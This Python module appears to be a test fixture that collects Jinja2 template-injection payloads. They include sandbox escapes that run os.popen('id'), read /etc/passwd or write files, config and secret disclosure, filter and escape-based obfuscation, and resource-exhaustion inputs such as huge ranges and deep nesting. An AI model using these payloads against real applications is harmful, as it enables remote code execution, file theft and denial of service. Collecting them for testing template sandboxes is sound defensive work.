"""Public template-injection payloads for Jinja2, their usual variations, and texts that grow."""

from __future__ import annotations

_OBJECTS = ["''", "()", "[]", "{}", "1", "name", "self", "config", "request", "lipsum", "cycler", "joiner", "namespace"]
_DUNDERS = ["__class__", "__init__", "__globals__", "__mro__", "__subclasses__()", "__base__", "__dict__", "__doc__"]
_STEPS = ["{o}.{d}", "{o}['{d}']", "{o}|attr('{d}')"]
_CLASSIC = """
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ ''.__class__.__base__.__subclasses__()[40]('/etc/passwd').read() }}
{{ [].__class__.__base__.__subclasses__()[59].__init__.__globals__['sys'].modules['os'].popen('id').read() }}
{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ joiner.__init__.__globals__.os.popen('id').read() }}
{{ namespace.__init__.__globals__.os.popen('id').read() }}
{{ lipsum.__globals__['os'].popen('id').read() }}
{{ lipsum.__globals__.os.system('id') }}
{{ config.__class__.__init__.__globals__['os'].popen('ls').read() }}
{{ config.items() }}
{{ config.from_pyfile('/etc/passwd') }}
{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}
{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}
{{ request['application']['__globals__'] }}
{{ get_flashed_messages.__globals__.__builtins__.open("/etc/passwd").read() }}
{{ url_for.__globals__['current_app'].config }}
{{ g.pop.__globals__.__builtins__['__import__']('os') }}
{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}
{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}
{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}
{{ ''['__cla' ~ 'ss__'].mro() }}
{{ name|attr(['__', 'class', '__']|join) }}
{{ name|attr('__class__')|attr('__init__') }}
{{ dict(__class__=1)|list }}
{{ dict(a=1) }}
{{ range(99999999) }}
{{ range(10**9)|list }}
{{ [1]*1000000000 }}
{{ 'a'*1000000000 }}
{{ 10**100000000 }}
{{ 9**9**9**9 }}
{{ 1 << 1000000 }}
{{ '%1000000000d'|format(1) }}
{{ '%s' % name }}
{{ '%1000000000s' % 'x' }}
{{ '{0.__class__}'.format(name) }}
{{ '{0.__class__.__init__.__globals__}'.format_map({}) }}
{{ ('{0.__class__}'|attr('format'))(name) }}
{{ name.format.__self__ }}
{{ '{:1000000000}'.format(1) }}
{{ 'a'|center(1000000000) }}
{{ 'a'|indent(1000000000) }}
{{ 'a'|ljust(1000000000) }}
{{ 'a'|wordwrap(1) }}
{{ [1,2]|map('string') }}
{{ [{}]|map(attribute='__class__')|list }}
{{ [{}]|selectattr('__class__') }}
{{ [{}]|groupby('__class__') }}
{{ [{}]|sort(attribute='__class__') }}
{{ [{}]|sum(attribute='__class__') }}
{{ name|list|random }}
{{ name|pprint }}
{{ name|tojson }}
{{ name|xmlattr }}
{{ {'a b': 1}|xmlattr }}
{{ name|safe }}
{{ name|e }}
{{ name|forceescape }}
{{ name|urlize }}
{{ name|striptags }}
{{ name|batch(1000000) }}
{{ name|slice(1000000000) }}
{{ name|filesizeformat }}
{{ name|dictsort }}
{{ name|reverse }}
{{ name|unique }}
{{ lipsum(n=100000) }}
{{ lipsum() }}
{{ cycler('a') }}
{{ namespace(a=1) }}
{{ joiner() }}
{{ debug() }}
{{ name() }}
{{ name.upper() }}
{{ name.replace('a', 'b'*999999999) }}
{{ ''.join(['a']) }}
{{ super() }}
{{ caller() }}
{{ self }}
{{ self.x }}
{{ loop.index }}
{{ varargs }}
{{ kwargs }}
{{ _context }}
{{ __builtins__ }}
{{ __import__('os') }}
{{ name is callable }}
{{ name is filter }}
{{ name is sameas(1) }}
{{ name is divisibleby(0) }}
{{ name is in(['a']) }}
{{ name is escaped }}
{{ name[::-1] }}
{{ name[0:1000000000] }}
{{ name[:1] }}
{{ (1).__class__ }}
{{ 1.0.__class__ }}
{{ true.__class__ }}
{{ none.__class__ }}
{{ (name,).__class__ }}
{{ {}.__class__ }}
{{ {'a': {}.__class__} }}
{{ [''.__class__] }}
{{ name if ''.__class__ else name }}
{{ name ~ ''.__class__ }}
{{ not ''.__class__ }}
{{ ''.__class__ == 1 }}
{{ name|default(''.__class__) }}
{{ name|default(default_value=''.__class__) }}
{{ name|replace('a', ''.__class__) }}
{{ name|truncate(*[1]) }}
{{ name|truncate(**{'length': 1}) }}
{{ name|int(base=16) }}
{{ name|truncate(5, true, '') }}
{{ name|join(attribute='x') }}
{{ row.__class__ }}
{{ row['__class__'] }}
{{ row|attr('items') }}
{{ row.items() }}
{{ row.get('name') }}
{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}
{% for x in range(999999999) %}{% for y in range(999999999) %}{% endfor %}{% endfor %}
{% for a in name recursive %}{{ loop(a) }}{% endfor %}
{% if ''.__class__ %}a{% endif %}
{% if name %}a{% endif %}
{% set x = ''.__class__ %}
{% set x = name %}{{ x }}
{% set x %}a{% endset %}
{% with a = 1 %}{{ a }}{% endwith %}
{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}
{% call name() %}{% endcall %}
{% filter upper %}a{% endfilter %}
{% block x %}{% endblock %}
{% extends 'x' %}
{% include '/etc/passwd' %}
{% import 'os' as os %}
{% from 'os' import system %}
{% autoescape false %}{{ name }}{% endautoescape %}
{% debug %}
{% do name.x() %}
{% print(name) %}
{% print(''.__class__) %}
{% trans %}a{% endtrans %}
{% break %}
{% continue %}
{% raw %}{{ name }}
{%- for a in b -%}{%- endfor -%}
{%+ if a %}{% endif %}
{{ name
{{ name }
{{ }}
{{ {{ name }} }}
{{ name | }}
{{ name || lower }}
{{ name ? 1 : 2 }}
{{ name; name }}
{{ name := 1 }}
{{ lambda: 1 }}
{{ [x for x in name] }}
{{ await name }}
{{ `id` }}
{{ ${7*7} }}
{{ #{7*7} }}
{{ 7*7 }}
{{ 7*'7' }}
{{ '7'*7 }}
{{ 7%3 }}
{{ 7//2 }}
{{ 2**3 }}
{{ +name.x() }}
{{ "".__class__.__mro__[2].__subclasses__()[40]("/tmp/x","w").write("x") }}
{{ ().__class__.__bases__[0].__subclasses__()[59].__init__.func_globals.linecache.os.popen('id').read() }}
{{ x.__init__.__builtins__.exec("import os") }}
{{ (config|attr("__class__")).__init__ }}
{{ config['\\u005f\\u005fclass\\u005f\\u005f'] }}
{{ name['__' ~ 'class' ~ '__']() }}
"""

HOSTILE = [
    *(line for line in _CLASSIC.splitlines() if line),
    *(
        "{{ " + step.format(o=owner, d=dunder) + " }}"
        for owner in _OBJECTS
        for dunder in _DUNDERS
        for step in _STEPS
        if not ("['" in step and "()" in dunder)
    ),
    "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
    "{{ " + "not " * 3000 + "1 }}",
    "{{ " + "-" * 3000 + "1 }}",
    "{{ " + "[" * 3000 + "]" * 3000 + " }}",
    "{{ a" + "|lower" * 1500 + " }}",
    "{{ a" + "~a" * 4000 + " }}",
    "{{ a" + ".a" * 4000 + " }}",
    "{{ " + "9" * 5000 + " }}",
    "{{ a }}" * 2000,
]

BIG = [
    "{{ a" + " | replace('a', 'aa')" * 30 + " }}",
    "{{ a" + " | replace('a', a)" * 5 + " }}",
    "{{ [a, a, a, a] | join(a) | replace('a', a) }}",
    "{{ a ~ a }}" + "{{ a ~ a ~ a ~ a ~ a ~ a ~ a ~ a }}" * 8,
    "{{ (a | replace('a', 'aaaaaaaa')) ~ (a | replace('a', 'aaaaaaaa')) ~ (a | replace('a', 'aaaaaaaaaaaaaaaaaaa')) }}",
]
